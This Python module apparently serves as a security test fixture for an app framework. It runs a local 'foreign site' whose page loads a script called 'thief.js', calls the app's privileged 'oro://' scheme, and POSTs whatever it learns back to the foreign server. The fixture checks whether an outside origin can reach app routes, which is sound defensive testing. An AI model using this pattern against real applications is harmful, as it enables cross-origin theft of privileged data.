"""A foreign site that changes the globals of its frames, and what it gets by that."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from oro_framework import Call, hookimpl, route
from oro_framework.types import Host

THIEF = (Path(__file__).parent / "thief.js").read_text()
PAGE = f"""<!doctype html><body></body><script>{THIEF}
reopened('oro://org.example.reopened').then((told) => fetch('/told', {{ method: 'POST', body: JSON.stringify(told) }}))
</script>"""
told: dict[str, Any] = {}


class Site(BaseHTTPRequestHandler):
    """The foreign site."""

    host: Host

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    def do_POST(self) -> None:
        told["foreign"] = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.send_response(204)
        self.end_headers()
        print("RESULT " + json.dumps(told), flush=True)
        self.host.quit()

    def log_message(self, *_: object) -> None:
        pass


server = ThreadingHTTPServer(("127.0.0.1", 0), Site)


@route("site")
def site(call: Call) -> str:
    """Say where the foreign site is."""
    return f"http://127.0.0.1:{server.server_address[1]}/"


@route("told")
def own(call: Call, outcome: str) -> None:
    """Take what the app's own page got."""
    told["own"] = json.loads(outcome)


@hookimpl
def oro_routes(host: Host) -> Sequence[Callable[..., Any]]:
    """Declare the routes."""
    return [site, own]


@hookimpl
def oro_started(host: Host) -> None:
    """Open the foreign site."""
    Site.host = host
    threading.Thread(target=server.serve_forever, daemon=True).start()


@hookimpl
def oro_stopping(host: Host) -> None:
    """Close it."""
    server.shutdown()
    server.server_close()
